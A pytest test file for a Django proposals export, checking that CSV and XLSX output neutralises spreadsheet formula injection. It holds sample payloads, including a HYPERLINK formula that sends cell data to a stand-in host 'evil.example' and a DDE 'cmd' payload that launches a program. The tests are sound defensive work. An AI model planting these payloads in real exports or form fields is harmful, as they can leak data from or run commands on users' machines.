"""The proposals export: hostile sector, organisation, theme and atelier names stay text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import (
    AtelierFactory,
    OrganisationFactory,
    ProposalFactory,
    SectorFactory,
    ThemeFactory,
    UserFactory,
)

SECTOR = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
ORGANISATION = "-1+1 Land"
THEME = "@SUM(1+1)"
ATELIER = "+Atelier"
TITLE = "\t=1+1"
SUMMARY = "\r=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(db):
    organisation = OrganisationFactory(name=ORGANISATION, short_name=ORGANISATION)
    sector = SectorFactory(name=SECTOR, slug="hostile")
    proposal = ProposalFactory(
        title=TITLE,
        summary=SUMMARY,
        sector=sector,
        created_by=UserFactory(organisation=organisation),
        atelier=AtelierFactory(sector=sector, title=ATELIER),
        status="approved",
        answer="=1+2",
    )
    proposal.themes.add(ThemeFactory(name=THEME, slug="hostile-theme"))
    return proposal


HOSTILE_CELLS = {SECTOR, ORGANISATION, THEME, ATELIER, TITLE, SUMMARY, "=1+2"}


def test_csv_export_neutralises_every_formula(client, staff, hostile):
    client.force_login(staff)
    response = client.get(reverse("proposals:export", args=["csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 2
    cells = set(rows[1])
    assert {"'" + value for value in HOSTILE_CELLS} <= cells
    assert not [cell for cell in rows[1] if cell and cell[0] in "=+-@\t\r"]


def test_xlsx_export_has_no_formula_cell(client, staff, hostile):
    client.force_login(staff)
    response = client.get(reverse("proposals:export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_row == 2
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {"'" + value for value in HOSTILE_CELLS} <= {cell.value for cell in cells}


def test_the_answer_is_exported_as_text_not_markdown(client, staff, chemie):
    ProposalFactory(
        sector=chemie, status="approved", answer="**Ja**, zie [de nota](https://resoc.example/n)."
    )
    client.force_login(staff)
    response = client.get(reverse("proposals:export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert "Ja, zie de nota (https://resoc.example/n)." in rows[1]
